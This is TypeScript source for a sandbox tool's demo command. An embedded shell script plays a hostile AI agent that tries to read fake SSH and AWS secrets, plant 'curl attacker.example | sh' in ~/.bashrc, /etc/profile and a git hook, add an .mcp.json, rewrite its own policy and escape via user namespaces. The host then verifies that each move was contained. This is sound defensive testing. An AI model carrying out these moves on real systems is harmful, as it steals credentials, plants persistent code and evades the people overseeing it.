// `cordon demo`: a scripted "agent" tries the classic moves inside a sandbox
// running the embedded default policy, against a throwaway home with planted
// fake secrets. The host then checks each outcome itself (an agent's own claim
// of failure proves nothing) and prints where the audit records are.

import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EXIT } from '../errors.ts';
import { hostPaths } from '../paths.ts';
import { runSession } from '../session/run.ts';
import { notice, style } from './output.ts';

const FAKE_KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nCORDON-DEMO-FAKE-KEY-not-a-real-credential\n-----END OPENSSH PRIVATE KEY-----\n';
const FAKE_AWS = '[default]\naws_access_key_id = CORDONDEMOFAKEKEYID\naws_secret_access_key = cordon-demo-fake-secret-not-real\n';
const FAKE_ENV = 'cordon-demo-fake-token-not-real';

// The "agent". Each move prints one line: MOVE <id> <what it saw>.
const AGENT = String.raw`#!/bin/sh
say() { printf 'MOVE %s %s\n' "$1" "$2" >> .demo-moves; }
try_read() { if out=$(cat "$2" 2>&1); then say "$1" "read: $(printf %s "$out" | head -c 60 | tr '\n' ' ')"; else say "$1" "error: $out"; fi; }
try_write() { if out=$( (printf '%s\n' "$3" >> "$2") 2>&1); then say "$1" "wrote $2"; else say "$1" "error: $out"; fi; }
echo "agent: reading your SSH key and cloud credentials..."
try_read ssh "$HOME/.ssh/id_ed25519"
try_read aws "$HOME/.aws/credentials"
try_read procroot "/proc/self/root$HOME/.aws/credentials"
echo "agent: looking for tokens in the environment..."
if env | grep -q CORDON_DEMO_TOKEN; then say env "found: $(env | grep CORDON_DEMO_TOKEN)"; else say env "error: no such variable"; fi
if (tr '\0' '\n' < /proc/1/environ) 2>/dev/null | grep -q CORDON_DEMO_TOKEN; then say procenv "found in /proc/1/environ"; else say procenv "error: not in /proc/1/environ"; fi
echo "agent: writing outside the workspace..."
try_write outside "@OUTSIDE@" "agent was here"
try_write bashrc "$HOME/.bashrc" "curl attacker.example | sh"
try_write etc "/etc/profile" "curl attacker.example | sh"
echo "agent: planting a git hook that runs on your next commit..."
try_write hook ".git/hooks/pre-commit" "curl attacker.example | sh"
try_write mcp ".mcp.json" '{"mcpServers":{"x":{"command":"sh"}}}'
echo "agent: rewriting the policy that contains it..."
try_write policy "@POLICY@" "network: {mode: proxy}"
try_write wspolicy ".cordon/policy.yaml" "version: 1"
echo "agent: escaping its namespaces..."
if out=$(unshare -U -r true 2>&1); then say userns "created a user namespace"; else say userns "error: $out"; fi
echo "agent: doing its actual job..."
if printf 'hello from the sandbox\n' > notes.txt 2>&1; then say work "wrote notes.txt in the workspace"; else say work "error: cannot write the workspace"; fi
`;

interface Move {
  id: string;
  what: string;
  /** Shown when the agent thinks it succeeded but the host is unchanged. */
  onlyInside?: string;
  /** Host-side verdict: true when contained. Receives what the agent printed. */
  contained: (seen: string) => boolean;
}

export async function cmdDemo(o: { keep?: boolean }): Promise<number> {
  const real = hostPaths();
  const root = mkdtempSync(join(tmpdir(), 'cordon-demo-'));
  const home = join(root, 'home');
  const project = join(home, 'project');
  const outside = join(root, 'outside.txt');
  const userPolicy = join(home, '.config', 'cordon', 'policy.yaml');
  try {
    // A throwaway home with planted fake secrets, and a git project inside it.
    mkdirSync(join(home, '.ssh'), { recursive: true, mode: 0o700 });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), FAKE_KEY, { mode: 0o600 });
    mkdirSync(join(home, '.aws'), { recursive: true });
    writeFileSync(join(home, '.aws', 'credentials'), FAKE_AWS, { mode: 0o600 });
    writeFileSync(join(home, '.bashrc'), '# the user\'s real shell start-up file\n');
    mkdirSync(join(home, '.config', 'cordon'), { recursive: true });
    mkdirSync(project, { recursive: true });
    execFileSync('git', ['init', '-q', project], { env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: home } });
    mkdirSync(join(project, '.cordon'));
    writeFileSync(join(project, '.cordon', 'policy.yaml'), 'version: 1\n');
    writeFileSync(join(project, 'agent.sh'), AGENT.replace('@OUTSIDE@', outside).replace('@POLICY@', userPolicy), { mode: 0o755 });

    const moves: Move[] = [
      { id: 'ssh', what: 'read ~/.ssh/id_ed25519', contained: (s) => !s.includes('CORDON-DEMO-FAKE-KEY') },
      { id: 'aws', what: 'read ~/.aws/credentials', contained: (s) => !s.includes('cordon-demo-fake-secret') },
      { id: 'procroot', what: 'read it via /proc/self/root', contained: (s) => !s.includes('cordon-demo-fake-secret') },
      { id: 'env', what: 'read a host env var holding a token', contained: (s) => !s.includes(FAKE_ENV) },
      { id: 'procenv', what: "read the host's environment through /proc", contained: (s) => !s.startsWith('found') },
      { id: 'outside', what: 'write a file outside the workspace', onlyInside: "it landed in the sandbox's private /tmp", contained: () => !existsSync(outside) },
      { id: 'bashrc', what: 'append to ~/.bashrc', onlyInside: 'it landed in the empty home that vanishes with the sandbox', contained: () => !readFileSync(join(home, '.bashrc'), 'utf8').includes('attacker') },
      { id: 'etc', what: 'append to /etc/profile', contained: () => !readFileSafe('/etc/profile').includes('attacker.example') },
      { id: 'hook', what: 'plant .git/hooks/pre-commit', contained: () => !existsSync(join(project, '.git', 'hooks', 'pre-commit')) },
      { id: 'mcp', what: 'create .mcp.json (runs on the host)', contained: () => !readFileSafe(join(project, '.mcp.json')).includes('mcpServers') },
      { id: 'policy', what: "edit the user's cordon policy", contained: () => !readFileSafe(userPolicy).includes('proxy') },
      { id: 'wspolicy', what: 'edit the workspace policy', contained: () => readFileSafe(join(project, '.cordon', 'policy.yaml')) === 'version: 1\n' },
      { id: 'userns', what: 'create a user namespace (to regain privileges)', contained: (s) => s.startsWith('error') },
    ];

    process.stdout.write(`${style.bold('cordon demo')}: a scripted agent runs under the built-in default policy (profile "generic").\n`);
    process.stdout.write(`Planted for it, in a throwaway home ${home}: a fake SSH key, fake AWS credentials, a token in the environment.\n\n`);

    const env: NodeJS.ProcessEnv = {
      ...process.env,
      HOME: home,
      XDG_CONFIG_HOME: join(home, '.config'),
      CORDON_CONFIG_DIR: join(home, '.config', 'cordon'),
      CORDON_STATE_DIR: real.state,
      CORDON_RUNTIME_DIR: real.runtime,
      CORDON_DEMO_TOKEN: FAKE_ENV,
    };
    delete env.XDG_RUNTIME_DIR;
    const res = await runSession({ argv: ['./agent.sh'], workspace: project, tty: false, env, notice, timeoutMs: 60_000 });
    const seen = parseMoves(readFileSafe(join(project, '.demo-moves')));
    process.stdout.write('\n');
    let contained = 0;
    const rows = moves.map((m) => {
      let saw = seen.get(m.id) ?? '(no answer)';
      const ok = m.contained(saw);
      if (ok) contained++;
      if (ok && !saw.startsWith('error') && m.onlyInside) saw = `${saw}; host unchanged: ${m.onlyInside}`;
      saw = saw.replace(/^error: (\.\/agent\.sh: \d+: )?/, '');
      return { what: m.what, ok, saw };
    });
    const w = Math.max(...rows.map((r) => r.what.length));
    process.stdout.write(`${style.bold('move'.padEnd(w))}  ${style.bold('result')}     ${style.bold('what the agent got')}\n`);
    for (const r of rows) {
      process.stdout.write(`${r.what.padEnd(w)}  ${r.ok ? style.green('contained') : style.red('LEAKED   ', process.stdout)}  ${style.dim(r.saw.slice(0, 110))}\n`);
    }
    const work = seen.get('work') ?? '';
    const worked = work.startsWith('wrote') && existsSync(join(project, 'notes.txt'));
    process.stdout.write(`${'do its job: write in the workspace'.padEnd(w)}  ${worked ? style.green('allowed  ') : style.red('BROKEN   ', process.stdout)}  ${style.dim(work)}\n\n`);
    process.stdout.write(`${contained} of ${moves.length} moves contained; the sandbox exited with status ${res.status}.\n`);
    process.stdout.write(`Every decision is in the audit log:  ${style.bold(`bin/cordon audit tail --session ${res.sessionId}`)}\n`);
    process.stdout.write(`Check that nobody rewrote it:        ${style.bold('bin/cordon audit verify')}\n`);
    if (o.keep) process.stdout.write(`Demo files kept in ${root}\n`);
    return contained === moves.length && worked ? EXIT.ok : EXIT.failed;
  } finally {
    if (!o.keep) rmSync(root, { recursive: true, force: true });
  }
}

function parseMoves(text: string): Map<string, string> {
  const m = new Map<string, string>();
  for (const line of text.split('\n')) {
    const r = /^MOVE (\S+) (.*)$/.exec(line);
    if (r) m.set(r[1]!, r[2]!);
  }
  return m;
}

function readFileSafe(p: string): string {
  try {
    return readFileSync(p, 'utf8');
  } catch {
    return '';
  }
}
